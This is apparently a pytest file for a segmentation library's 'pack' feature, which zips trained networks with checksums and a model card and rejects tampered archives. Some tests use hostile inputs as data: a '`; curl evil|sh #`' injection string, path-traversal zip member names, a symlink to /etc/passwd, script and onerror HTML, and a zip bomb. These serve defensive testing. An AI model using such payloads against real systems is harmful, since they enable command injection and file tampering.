"""Networks that change hands: `fcn8s pack`, and zips of others."""

import errno
import functools
import hashlib
import http.server
import json
import os
import re
import shlex
import shutil
import stat
import subprocess
import sys
import textwrap
import threading
import zipfile

import numpy as np
import pytest
from streams import Stream

from fcn8s import Ensemble, FCN8s, open_model
from fcn8s.backend import tf
from fcn8s.cli import main
from fcn8s.cli.inputs.prediction import keep_prob_of
from fcn8s.cli.options.resolving import options_of_run
from fcn8s.saving import packed, packing, runs
from fcn8s.saving.packing import pack
from fcn8s.training.schedules import constant
from helpers.files import sha256_of
from helpers.image_rules import ImageRules
from helpers.images import write_image, write_labels
from helpers.json_files import read_json

IMAGES = np.random.RandomState(2).randint(0, 256, (1, 40, 56, 3)).astype(np.uint8)


@pytest.fixture(scope='module')
def run_dir(tmp_path_factory, tiny_encoder):
    path = str(tmp_path_factory.mktemp('pack') / 'run')
    with FCN8s(vgg16_dir=tiny_encoder, num_classes=2) as network:
        network.train(
            Stream(), 1, 2, constant(1e-3), run_dir=path, config={'command': {'layout': 'camvid', 'size': None}}
        )
    return path


@pytest.fixture(scope='module')
def archive(run_dir, tmp_path_factory):
    return pack(run_dir, str(tmp_path_factory.mktemp('packed') / 'network.zip'), licence='CC BY 4.0')


def contents(path):
    with zipfile.ZipFile(path) as file:
        return {name: file.read(name) for name in file.namelist()}


def rewrite(path, members, source=None):
    """Writes a zip of members, with sums as they should be unless there are some."""
    if packed.SUMS_FILE not in members:
        lines = ['{}  {}\n'.format(hashlib.sha256(value).hexdigest(), name) for name, value in members.items()]
        members = dict(members, **{packed.SUMS_FILE: ''.join(lines).encode()})
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as file:
        for name, value in members.items():
            file.writestr(name, value)
    return path


def test_a_packed_run_predicts_and_trains_on_as_the_run_does(run_dir, archive):
    with FCN8s(model_load_dir=run_dir) as network:
        expected = network.predict(IMAGES, argmax=False)
    with FCN8s(model_load_dir=archive) as network:
        np.testing.assert_array_equal(network.predict(IMAGES, argmax=False), expected)
        assert int(network.sess.run(network.global_step)) == 2
    with FCN8s(fine_tune_from=archive) as network:
        np.testing.assert_allclose(network.predict(IMAGES, argmax=False), expected, atol=1e-6)


def test_the_commands_open_it(archive, tmp_path, capsys):
    image = str(tmp_path / 'image.png')
    write_image(image, IMAGES[0])
    assert main(['predict', archive, image, '--out', str(tmp_path / 'out'), '--ids']) == 0
    assert os.listdir(str(tmp_path / 'out')) == ['image_ids.png']


def test_it_is_not_made_into_what_it_is_already(run_dir, archive, tmp_path, capsys):
    for path, what in ((archive, 'a packed network'), (run_dir, 'a run')):
        message = '{!r} is {} of this library already. fcn8s predict, evaluate and export open it'.format(path, what)
        for words in (
            ['import-fcn8s', path, str(tmp_path / 'out')],
            ['vgg16', str(tmp_path / 'out'), '--weights', path],
        ):
            assert main(words) == 2
            assert message in ' '.join(capsys.readouterr().err.split())
        with pytest.raises(ValueError, match=re.escape(message)):
            FCN8s(vgg16_dir=path, num_classes=2)


def test_records_name_the_zip_and_not_the_folder_that_it_was_unpacked_to(run_dir, archive, tmp_path, capsys):
    for folder in ('images', 'labels'):
        os.makedirs(str(tmp_path / folder))
    write_image(str(tmp_path / 'images' / 'one.png'), IMAGES[0])
    write_labels(str(tmp_path / 'labels' / 'one.png'), IMAGES[0, ..., 0] % 2)
    labelled = ['--images', str(tmp_path / 'images'), '--labels', str(tmp_path / 'labels')]
    for models in ([archive], [archive, run_dir]):
        scores = str(tmp_path / '{}.json'.format(len(models)))
        assert main(['evaluate', *models, *labelled, '--json', scores]) == 0
        found = read_json(scores)
        assert found['model'].split(' + ')[0] == archive and 'fcn8s-packed' not in str(found)
        assert capsys.readouterr().out.startswith(archive)


def test_errors_name_the_zip_and_not_the_folder_that_it_was_unpacked_to(archive, small_model):
    for given in ({'variant': '32s'}, {'image_rules': ImageRules(channels=4)}):
        with pytest.raises(ValueError, match=re.escape(repr(archive))):
            FCN8s(model_load_dir=archive, **given)
    with pytest.raises(ValueError, match='need the same .*' + re.escape(archive)):
        Ensemble([open_model(archive), open_model(small_model)])


def test_what_the_run_says_of_its_training_is_known_of_its_zip(tiny_encoder, tmp_path):
    run, archive = str(tmp_path / 'run'), str(tmp_path / 'network.zip')
    command = {'color_tolerance': 40, 'size': [32, 64]}
    with FCN8s(vgg16_dir=tiny_encoder, num_classes=2) as network:
        network.train(Stream(), 1, 1, constant(1e-3), keep_prob=0.75, run_dir=run, config={'command': command})
    pack(run, archive)
    for path in (run, archive):
        assert keep_prob_of(path) == 0.75 and options_of_run(path) == command and runs.input_size(path) == (32, 64)


def test_the_same_run_gives_the_same_bytes_without_the_optimizers_state(run_dir, archive, tmp_path):
    again = pack(run_dir, str(tmp_path / 'again.zip'), licence='CC BY 4.0')
    with open(archive, 'rb') as first, open(again, 'rb') as second:
        assert first.read() == second.read()
    folder = packed.unpack(archive)
    names = set(tf.train.load_checkpoint(os.path.join(folder, 'variables', 'variables')).get_variable_to_shape_map())
    assert not [name for name in names if 'Adam' in name or 'adam' in name] and 'conv1_1/filter' in names
    whole = pack(run_dir, str(tmp_path / 'whole.zip'), with_optimizer=True)
    assert os.path.getsize(whole) > 2.5 * os.path.getsize(archive)
    with pytest.raises(ValueError, match="holds no optimiser's state to pack; checkpoints of runs do"):
        pack(archive, str(tmp_path / 'none.zip'), with_optimizer=True)
    assert not (tmp_path / 'none.zip').exists()


def test_sums_and_card_are_right(archive, run_dir):
    files = contents(archive)
    for line in files.pop('SHA256SUMS').decode().splitlines():
        digest, name = line.split('  ')
        assert hashlib.sha256(files.pop(name)).hexdigest() == digest
    assert not files
    card = contents(archive)['README.md'].decode()
    assert '# FCN-8s for 2 classes' in card and 'Licence: CC BY 4.0' in card
    assert '| 1 | class 1 |' in card and '- data: camvid' in card and 'stream 0' in card and '- tensorflow: ' in card


def test_scores_with_their_interval_go_onto_the_card(run_dir, tmp_path):
    interval = {'value': 0.5, 'low': 0.4, 'high': 0.6, 'num_images': 12}
    (tmp_path / 'scores.json').write_text(json.dumps({'mean_iou': 0.5, 'mean_iou_interval': interval}))
    path = pack(run_dir, str(tmp_path / 'x.zip'), scores=str(tmp_path / 'scores.json'))
    card = contents(path)['README.md'].decode()
    assert 'mean IoU: 50.00 % (95 % bootstrap interval 40.00 % to 60.00 %, over 12 images)' in card
    assert 'Licence: not stated' in card
    (tmp_path / 'one.json').write_text(json.dumps({'mean_iou': 0.5, 'mean_iou_interval': dict(interval, num_images=1)}))
    path = pack(run_dir, str(tmp_path / 'one.zip'), scores=str(tmp_path / 'one.json'))
    assert 'bootstrap' not in contents(path)['README.md'].decode()


def test_folders_of_images_are_of_no_layout_on_the_card(small_model):
    from fcn8s.saving.card import write_card
    from fcn8s.saving.descriptions import read_description

    command = {'data': None, 'layout': 'cityscapes', 'split': 'train', 'val_split': 'val', 'images': ['a', 'b']}
    card = write_card(read_description(small_model), {'command': dict(command, labels='c')}, None, None)
    assert '- data: a, b\n' in card and 'fcn8s train --images a --images b --labels c\n' in card


def test_names_from_files_are_text_on_the_card(small_model):
    from fcn8s.saving.card import write_card
    from fcn8s.saving.descriptions import read_description

    model = read_description(small_model)
    config = {'command': {'data': '<script>`|\n# x', 'layout': 'a'}, 'dataset_fingerprint': '[x](http://y)'}
    card = write_card(model, config, None, 'a\n# b')
    assert '<script>' not in card.split('```')[0] and '\n# ' not in card[2:] and '[x](http' not in card
    metrics = {'loss': 0.5, 'mean_iou': None, 'accuracy': '<b>'}  # null where no pixel counted; and of others, anything
    card = write_card(model._replace(description=dict(model.description, metrics=metrics)), None, None, None)
    assert '- loss: 0.5000, when it was saved' in card and 'mean_iou' not in card and '<b>' not in card


def test_the_command_on_the_card_of_somebody_elses_run_is_one_command(small_model):
    from fcn8s.saving.card import write_card
    from fcn8s.saving.descriptions import read_description

    command = {'x; curl evil|sh #': True, 'data': '`; curl evil|sh #`\n```', 'Seed': 1, 'epochs': 3}
    card = write_card(read_description(small_model), {'command': command}, None, None)
    line = card.split('\n```\n')[1]
    assert shlex.split(line) == ['fcn8s', 'train', '--data', '`; curl evil|sh #` ```', '--epochs', '3']


def test_only_scores_and_the_licence_are_taken_from_an_earlier_card(small_model):
    from fcn8s.saving.card import write_card
    from fcn8s.saving.descriptions import read_description

    model = read_description(small_model)
    metrics = {'mean_iou': 0.5, 'a<b>': -0.25}
    first = write_card(model._replace(description=dict(model.description, metrics=metrics)), None, None, 'CC<0>')
    added = '<img onerror=x>\n- \x1b[2J: 0.5000, when it was saved\n- <b>: 0.5000, when it was saved\n'
    altered = first.replace('- mean', added + '- mean').replace('CC\\<', 'CC\x1b<')
    card = write_card(model, None, None, None, altered)
    assert card == first.replace('CC\\<', 'CC \\<') and card.count('when it was saved') == 2
    assert write_card(model, None, None, None, '## Scores\n\n<img onerror=x>\n').count('img') == 0


@pytest.mark.parametrize(
    'change, message',
    [
        (lambda files: files.update({'../evil': b'x'}), r"holds '../evil', which is no file of a packed network"),
        (lambda files: files.update({'/etc/evil': b'x'}), 'which is no file of a packed network'),
        (lambda files: files.update({'variables/../../evil': b'x'}), 'which is no file of a packed network'),
        (lambda files: files.update({'variables\\evil': b'x'}), 'which is no file of a packed network'),
        (lambda files: files.pop('saved_model.pb'), 'lacks saved_model.pb'),
        (lambda files: files.update({'variables/variables.data-00009-of-00009\n': b'x'}), 'is no file of a packed'),
        (lambda files: files.update(SHA256SUMS=b''), "'README.md' is in the archive, and not in SHA256SUMS. Get it"),
        (lambda files: files.update(SHA256SUMS=b'0' * 64 + b'  a\n'), "'README.md' is in the archive, and not in SHA"),
        (lambda files: files.update(SHA256SUMS=b'abc'), 'is no line of it'),
        (lambda files: files.update(SHA256SUMS=b'\xff\xfe'), 'is no line of it'),
    ],
)
def test_archives_of_others_are_refused(archive, tmp_path, change, message):
    files = contents(archive)
    del files['SHA256SUMS']
    change(files)
    path = rewrite(str(tmp_path / 'other.zip'), files)
    with pytest.raises(ValueError, match=message):
        FCN8s(model_load_dir=path)
    assert os.listdir(str(tmp_path)) == ['other.zip']


@pytest.mark.parametrize('compression', [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_archives_of_other_compressions_are_refused(archive, tmp_path, compression):
    path = str(tmp_path / 'other.zip')
    with zipfile.ZipFile(path, 'w', compression) as file:
        for name, content in contents(archive).items():
            file.writestr(name, content)
    with pytest.raises(ValueError, match='is compressed in a way that packed networks are not; nothing of it was unp'):
        packed.unpack(path)


def test_members_before_the_beginning_of_the_file_are_damage(archive, tmp_path, monkeypatch):
    def open_nowhere(self, member, *_):
        raise OSError(errno.EINVAL, os.strerror(errno.EINVAL))

    monkeypatch.setattr(zipfile.ZipFile, 'open', open_nowhere)
    with pytest.raises(ValueError, match='network.zip is damaged: .*Invalid argument.*Get it again'):
        packed.unpack(shutil.copy(archive, str(tmp_path / 'network.zip')))


def test_errors_about_what_is_in_a_zip_name_the_zip(archive, tmp_path, capsys):
    files = dict(contents(archive), **{'fcn8s.json': b'{"format": 2}'})
    del files['SHA256SUMS']
    path = rewrite(str(tmp_path / 'newer.zip'), files)
    assert main(['pack', path, str(tmp_path / 'again.zip')]) == 2
    assert '{}{}fcn8s.json has format 2'.format(path, os.sep) in capsys.readouterr().err


def test_errors_in_python_name_the_zip_too(archive, tmp_path):
    files = dict(contents(archive), **{'fcn8s.json': b'[]'})
    del files['SHA256SUMS']
    path = rewrite(str(tmp_path / 'other.zip'), files)
    for use in (open_model, lambda zipped: FCN8s(model_load_dir=zipped), lambda zipped: pack(zipped, path + '2.zip')):
        with pytest.raises(ValueError, match=re.escape(os.path.join(path, 'fcn8s.json')) + ' is damaged'):
            use(path)


def test_what_a_killed_process_unpacked_is_removed_by_the_next(archive, tmp_path):
    code = 'import sys, time; from fcn8s.saving.packed import unpack; print(unpack(sys.argv[1]), flush=True); {}'
    environment = dict(os.environ, TMPDIR=str(tmp_path))
    command = [sys.executable, '-c', code.format('time.sleep(60)'), archive]
    with subprocess.Popen(command, env=environment, stdout=subprocess.PIPE) as process:
        folder = process.stdout.readline().decode().strip()
        process.kill()
    assert os.path.isfile(os.path.join(folder, 'saved_model.pb')) and os.stat(folder).st_mode & 0o077 == 0
    subprocess.run([sys.executable, '-c', code.format(''), archive], env=environment, check=True)
    assert not [name for name in os.listdir(str(tmp_path)) if 'fcn8s-packed' in name]


@pytest.mark.skipif(not hasattr(os, 'fork'), reason='processes are forked on POSIX alone')
def test_a_forked_process_that_ends_leaves_what_its_parent_unpacked(archive, tmp_path):
    code = """
        import os, sys
        from fcn8s.saving.packed import unpack
        folder = unpack(sys.argv[1])
        if os.fork() == 0:
            sys.exit()
        os.wait()
        print(os.path.isfile(os.path.join(folder, 'saved_model.pb')), folder)
    """
    command = [sys.executable, '-c', textwrap.dedent(code), archive]
    done = subprocess.run(command, env=dict(os.environ, TMPDIR=str(tmp_path)), stdout=subprocess.PIPE, check=True)
    is_there, folder = done.stdout.decode().split()
    assert is_there == 'True' and not os.path.exists(folder)


def test_a_zip_is_unpacked_again_where_something_removed_its_files(archive, tmp_path):
    path = shutil.copy(archive, str(tmp_path / 'copy.zip'))
    folder = packed.unpack(path)
    assert packed.unpack(path) == folder
    os.unlink(os.path.join(folder, 'variables', 'variables.index'))
    again = packed.unpack(path)
    assert again != folder and os.path.isfile(os.path.join(again, 'variables', 'variables.index'))
    shutil.rmtree(again)
    assert os.path.isfile(os.path.join(packed.unpack(path), 'saved_model.pb'))


def test_a_zip_that_cannot_be_unpacked_for_lack_of_space_says_where(archive, monkeypatch):
    def full(*_):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(packed, '_write', full)
    monkeypatch.setattr(packed, '_unpacked', {})
    with pytest.raises(
        OSError, match=r'No space left on device while writing .*fcn8s-packed.* Set TMPDIR to'
    ) as caught:
        packed.unpack(archive)
    assert caught.value.errno == errno.ENOSPC


@pytest.mark.parametrize('change', [lambda d, n: d.upper() + b'  ' + n, lambda d, n: d + b' *' + n])
def test_sums_are_taken_as_other_tools_write_them(archive, tmp_path, change):
    files = contents(archive)
    lines = [change(*line.split(b'  ')) for line in files['SHA256SUMS'].splitlines()]
    path = rewrite(str(tmp_path / 'other.zip'), dict(files, SHA256SUMS=b'\n'.join(lines)))
    assert os.path.isfile(os.path.join(packed.unpack(path), 'saved_model.pb'))


def test_a_file_that_was_changed_is_named(archive, tmp_path):
    files = contents(archive)
    files['fcn8s.json'] += b' '
    with pytest.raises(ValueError, match='fcn8s.json is not what SHA256SUMS says'):
        FCN8s(model_load_dir=rewrite(str(tmp_path / 'other.zip'), files))


@pytest.mark.parametrize('name', ['config.json', 'import.json', 'variables/variables.data-00001-of-00002'])
def test_links_out_of_a_model_are_not_followed(run_dir, tmp_path, name):
    """The zip of somebody else's network would hold a file of this machine."""
    copy, out = str(tmp_path / 'run'), str(tmp_path / 'a.zip')
    shutil.copytree(run_dir, copy)
    (tmp_path / 'secret').write_text('{}')
    place = os.path.join(copy if name == 'config.json' else runs.resolve_model(copy), name)
    if os.path.exists(place):
        os.remove(place)
    os.symlink(str(tmp_path / 'secret'), place)
    with pytest.raises(ValueError, match='is a link to .*secret, and only files of the model'):
        pack(copy, out, with_optimizer=True)
    assert not os.path.exists(out)


def test_variables_that_stay_as_they_are_are_zipped_from_where_they_lie(small_model, tmp_path, monkeypatch):
    zipped, in_folder = packing._zip, []

    def look(folder, *arguments):
        in_folder.extend(os.listdir(folder))
        zipped(folder, *arguments)

    monkeypatch.setattr(packing, '_zip', look)
    files = contents(pack(small_model, str(tmp_path / 'a.zip')))
    assert 'saved_model.pb' in in_folder and 'variables' not in in_folder
    for name in ('variables.index', 'variables.data-00000-of-00001'):
        with open(os.path.join(small_model, 'variables', name), 'rb') as file:
            assert files['variables/' + name] == file.read()


def test_variables_that_change_while_they_are_packed_are_no_zip(small_model, tmp_path, monkeypatch):
    monkeypatch.setattr(
        packing, 'sha256_of', lambda path: sha256_of(path)[::-1] if '.data-' in path else sha256_of(path)
    )
    with pytest.raises(ValueError, match='variables.data-.* was changed while it was packed'):
        pack(small_model, str(tmp_path / 'a.zip'))
    assert os.listdir(str(tmp_path)) == []


def test_a_zip_that_is_packed_again_keeps_what_its_card_says(run_dir, tmp_path):
    scores = tmp_path / 'scores.json'
    scores.write_text(json.dumps({'mean_iou': 0.5, 'mean_iou_interval': {'low': 0.4, 'high': 0.6, 'num_images': 9}}))
    first = pack(run_dir, str(tmp_path / 'first.zip'), licence='CC [BY] 4.0', scores=str(scores))
    again, other = pack(first, str(tmp_path / 'again.zip')), pack(first, str(tmp_path / 'other.zip'), licence='MIT')
    card = contents(first)['README.md'].decode()
    assert contents(again)['README.md'].decode() == card
    assert contents(other)['README.md'].decode() == card.replace('CC \\[BY\\] 4.0', 'MIT') != card


def test_a_zip_that_was_unpacked_and_zipped_is_taken(archive, tmp_path):
    with zipfile.ZipFile(archive) as file:
        file.extractall(str(tmp_path / 'folder'))
    path = shutil.make_archive(str(tmp_path / 'again'), 'zip', str(tmp_path / 'folder'))
    with zipfile.ZipFile(path) as file:
        assert 'variables/' in file.namelist()
    assert os.path.isfile(os.path.join(packed.unpack(path), 'fcn8s.json'))


def test_damaged_variables_are_no_lack_of_space(run_dir, tmp_path):
    broken, out = str(tmp_path / 'broken'), str(tmp_path / 'network.zip')
    shutil.copytree(run_dir, broken)
    for folder, _, names in os.walk(broken):
        for name in names:
            if '.data-' in name:
                os.truncate(os.path.join(folder, name), os.path.getsize(os.path.join(folder, name)) // 2)
    with pytest.raises(ValueError, match='variables .* are missing or damaged') as raised:
        pack(broken, out)
    assert len(str(raised.value).splitlines()) == 1
    assert os.listdir(str(tmp_path)) == ['broken']


def test_a_link_is_written_as_the_file_that_it_is(archive, tmp_path):
    files = contents(archive)
    path = rewrite(
        str(tmp_path / 'other.zip'),
        {'README.md': b'/etc/passwd', **{n: files[n] for n in files if n not in ('README.md', 'SHA256SUMS')}},
    )
    with zipfile.ZipFile(path) as file:
        members = [(member, file.read(member)) for member in file.infolist()]
    with zipfile.ZipFile(path, 'w') as file:
        for member, value in members:
            if member.filename == 'README.md':
                member.external_attr = (stat.S_IFLNK | 0o777) << 16
            file.writestr(member, value)
    folder = packed.unpack(path)
    assert not os.path.islink(os.path.join(folder, 'README.md'))


def test_a_bomb_is_refused_before_it_is_unpacked(archive, tmp_path, monkeypatch):
    monkeypatch.setattr(packed, 'LARGEST', 1000)
    with zipfile.ZipFile(archive) as file:
        path = rewrite(str(tmp_path / 'other.zip'), {name: file.read(name) for name in file.namelist()})
    with pytest.raises(ValueError, match='unpacks to .*; at the most 1.0 kB are taken'):
        FCN8s(model_load_dir=path)


def test_a_network_of_far_more_bytes_than_its_zip_is_refused_before_it_is_unpacked(archive, tmp_path):
    files = dict(contents(archive), **{'variables/variables.data-00000-of-00001': bytes(10**8)})
    del files['SHA256SUMS']
    path = rewrite(str(tmp_path / 'other.zip'), files)
    with pytest.raises(
        ValueError, match='other.zip has .*B and unpacks to 100.* MB, more than a network can; nothing of'
    ):
        packed.unpack(path)


@pytest.mark.filterwarnings('ignore:Duplicate name')
def test_a_file_that_is_there_twice_is_named(archive, tmp_path):
    path = shutil.copy(archive, str(tmp_path / 'network.zip'))
    with zipfile.ZipFile(path, 'a') as file:
        file.writestr('fcn8s.json', b'{}')
    with pytest.raises(ValueError, match='network.zip holds fcn8s.json twice; nothing of it was unpacked. Get it ag'):
        packed.unpack(path)


def test_a_zip_that_was_cut_off_is_named_as_one(archive, tmp_path, capsys):
    path = shutil.copy(archive, str(tmp_path / 'network.zip'))
    os.truncate(path, os.path.getsize(path) // 2)
    assert main(['pack', path, str(tmp_path / 'again.zip')]) == 2
    message = 'is a zip, and no packed network: it holds no fcn8s.json, or was cut off. If fcn8s pack wrote it, get it'
    assert message in capsys.readouterr().err.replace('\n', ' ')


@pytest.mark.parametrize('mean_iou', [1e308, 10**308, 1.5, -0.5, '0.5', True])
def test_scores_beyond_a_share_are_refused(run_dir, tmp_path, mean_iou):
    (tmp_path / 'scores.json').write_text(json.dumps({'mean_iou': mean_iou}))
    with pytest.raises(ValueError, match='scores.json holds no scores; write them with'):
        pack(run_dir, str(tmp_path / 'network.zip'), scores=str(tmp_path / 'scores.json'))


def test_what_cannot_be_packed_is_refused_before_a_model_is_read(tmp_path):
    (tmp_path / 'file').write_text('')
    for path, options, match in (
        ('~/network.zip', {}, "'~/network.zip' begins with '~'"),
        (str(tmp_path / 'file' / 'network.zip'), {}, 'A file has the place of a directory'),
        (str(tmp_path / 'network.zip'), dict(scores=str(tmp_path / 'none.json')), 'there are no scores at'),
        (
            str(tmp_path / 'network.zip'),
            dict(with_optimizer='no'),
            "with_optimizer is 'no'; it has to be True or False",
        ),
    ):
        with pytest.raises((ValueError, OSError), match=match):
            pack(str(tmp_path / 'nothing'), path, **options)
    assert os.listdir(str(tmp_path)) == ['file']


def test_damaged_archives_are_an_error_in_one_line(archive, tmp_path):
    with open(archive, 'rb') as file:
        whole = file.read()
    rng = np.random.RandomState(0)
    path = str(tmp_path / 'other.zip')
    for _ in range(40):
        content = bytearray(whole)
        # Most of it is weights: the directory is at the end.
        for place in len(whole) - 1 - (1500 * rng.rand(4)).astype(int):
            content[place] = rng.randint(256)
        with open(path, 'wb') as file:
            file.write(content)
        try:
            if packed.is_packed(path):
                packed.unpack(path)
        except ValueError as error:
            assert path in str(error) and len(str(error).splitlines()) == 1


def test_what_the_page_says_about_pooch_works(archive, tmp_path, root_dir):
    pooch = pytest.importorskip('pooch')
    with open(os.path.join(root_dir, 'docs', 'trained-networks.md'), encoding='utf-8') as file:
        (code,) = re.findall(r'^```py\n(.*?)^```', file.read(), re.MULTILINE | re.DOTALL)
    code = code.replace('sha256:...', 'sha256:' + pooch.file_hash(archive))
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=os.path.dirname(archive))
    with http.server.HTTPServer(('127.0.0.1', 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        url = 'http://127.0.0.1:{}/{}'.format(server.server_port, os.path.basename(archive))
        code = code.replace('https://example.org/network.zip', url).replace(
            'known_hash=', 'path={!r}, known_hash='.format(str(tmp_path))
        )
        exec(compile(code, 'trained-networks.md', 'exec'), {})
        server.shutdown()
    assert [name for name in os.listdir(str(tmp_path)) if name.endswith('network.zip')]


@pytest.mark.parametrize(
    'arguments, message',
    [
        (['no', 'x.zip'], "model 'no' does not exist"),
        (['{run}', 'x.tar'], 'it has to end with .zip'),
        (['{run}', '{archive}'], 'exists already'),
        (['{run}', 'x.zip', '--scores', 'none.json'], 'there are no scores at'),
    ],
)
def test_wrong_arguments_are_refused(run_dir, archive, tmp_path, monkeypatch, capsys, arguments, message):
    monkeypatch.chdir(tmp_path)
    arguments = [argument.format(run=run_dir, archive=archive) for argument in arguments]
    assert main(['pack'] + arguments) == 2
    assert message in capsys.readouterr().err.replace('\n', ' ')
    assert not os.listdir(str(tmp_path))
